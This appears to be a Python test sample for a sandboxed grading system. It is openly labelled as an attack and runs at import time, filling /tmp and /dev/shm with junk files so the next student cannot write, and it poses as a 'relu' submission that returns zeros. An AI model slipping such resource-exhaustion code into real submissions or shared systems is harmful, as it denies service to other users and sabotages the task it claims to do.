# attack: fill the private /tmp (also its home and working folder) and /dev/shm to the last
#         byte, so that the next student cannot write a file
# levels: bwrap
# the helpers of _common.py come first
# ruff: noqa


def _fill():
    written = 0
    for folder in ("/tmp", "/dev/shm"):
        for index in range(64):
            try:
                with open(os.path.join(folder, f"fill-{index}"), "wb") as fill:
                    for _ in range(16):
                        fill.write(b"x" * (1 << 20))
                        written += 1 << 20
            except OSError:
                break
    print("filled", written, flush=True)
    return written


_FILLED = _fill()


def relu(x):
    return _zeros(x) + 0 * _FILLED
